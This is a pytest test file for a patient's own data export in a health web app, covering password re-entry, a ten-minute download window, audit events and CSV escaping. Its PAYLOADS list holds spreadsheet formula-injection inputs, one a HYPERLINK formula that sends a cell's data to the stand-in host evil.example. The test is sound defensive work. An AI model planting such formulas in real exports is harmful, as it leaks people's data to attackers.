"""Issue 15 part 4: the patient's own copy, behind the password given again, audited as her own export
(not shown in her access log), with CSV cells escaped against formula injection."""

from __future__ import annotations

import csv
import io
from datetime import UTC, datetime, timedelta

import pytest
from fhir.resources.R4B.bundle import Bundle
from sqlmodel import select

from tests.conftest import DEMO
from webapp.models import AuditEvent, Patient, SymptomReport, User

PAYLOADS = ['=HYPERLINK("https://evil.example/?d="&A1,"Klikk her")', "+1", "-2", "@SUM(A1:A9)", "\tfane", "\rretur"]


def patient_of(db_session, email: str) -> Patient:
    user = db_session.exec(select(User).where(User.email == email)).one()
    return db_session.exec(select(Patient).where(Patient.user_id == user.id)).one()


def confirm_password(client, who: str = "patient"):
    return client.post("/my-data/export/", data={"password": DEMO[who][1]})


@pytest.mark.parametrize("path", ["/my-data/export/fhir.json", "/my-data/export/doses.csv",
                                  "/my-data/export/reports.csv"])
def test_a_download_without_the_password_again_goes_to_the_password_page(client, auth, path):
    auth.login("patient")
    response = client.get(path)
    assert response.status_code == 302 and response.headers["Location"].endswith("/my-data/export/")


def test_a_wrong_password_is_refused_and_downloads_stay_closed(client, auth):
    auth.login("patient")
    response = client.post("/my-data/export/", data={"password": "not-my-password"})
    assert response.status_code == 422
    assert client.get("/my-data/export/doses.csv").status_code == 302


def test_after_the_password_every_download_works_for_ten_minutes(client, auth, db_session):
    patient = patient_of(db_session, "patient@example.org")
    auth.login("patient")
    assert confirm_password(client).status_code == 302
    page = client.get("/my-data/export/")
    assert page.status_code == 200 and b"/my-data/export/jcv.csv" in page.data
    bundle = Bundle.model_validate_json(client.get("/my-data/export/fhir.json").data)
    assert bundle.entry[0].resource.get_resource_type() == "Patient"
    for kind in ("doses", "pickups", "reports", "jcv", "flags"):
        response = client.get(f"/my-data/export/{kind}.csv")
        assert response.status_code == 200 and response.mimetype == "text/csv"
        assert response.data.startswith("\ufeff".encode())  # UTF-8 with BOM, for Excel
    assert client.get("/my-data/export/passwords.csv").status_code == 404
    targets = sorted(e.target for e in db_session.exec(select(AuditEvent).where(
        AuditEvent.action == "export", AuditEvent.patient_id == patient.id)).all())
    assert targets == ["csv:doses", "csv:flags", "csv:jcv", "csv:pickups", "csv:reports", "fhir"]
    # Her own export is no one else's read: her access log does not list it.
    with client.session_transaction() as session:
        session["export_ok_until"] = (datetime.now(UTC) - timedelta(seconds=1)).timestamp()
    assert client.get("/my-data/export/doses.csv").status_code == 302  # ten minutes later


def test_her_own_export_is_not_in_her_access_log(client, auth, db_session):
    auth.login("patient")
    confirm_password(client)
    client.get("/my-data/export/doses.csv")
    from webapp.access_history.routes import _seen_by_others

    patient = patient_of(db_session, "patient@example.org")
    seen = db_session.exec(_seen_by_others(patient, datetime.now(UTC) - timedelta(days=1))).all()
    assert all(event.target != "csv:doses" for event, _user, _clinic in seen)


def test_formula_payloads_in_a_report_come_back_escaped(client, auth, db_session):
    patient = patient_of(db_session, "patient@example.org")
    for n, payload in enumerate(PAYLOADS):
        db_session.add(SymptomReport(patient_id=patient.id, client_id=f"formula-{n}", codes=["headache"],
                                     level="routine", free_text=payload))
    db_session.commit()
    auth.login("patient")
    confirm_password(client)
    text = client.get("/my-data/export/reports.csv").data.decode("utf-8-sig")
    rows = list(csv.reader(io.StringIO(text, newline="")))
    header, body = rows[0], rows[1:]
    words = [row[header.index("Dine ord")] for row in body]  # the patient's language: Norwegian
    for payload in PAYLOADS:
        assert "'" + payload in words
        assert payload not in words
    for row in body:
        assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for cell in row)


def test_the_headers_are_in_english_for_an_english_patient(client, auth):
    auth.login("patient_en")
    confirm_password(client, "patient_en")
    text = client.get("/my-data/export/doses.csv").data.decode("utf-8-sig")
    assert text.splitlines()[0].startswith("Date and time,Place,Syringes,Dose (mg)")
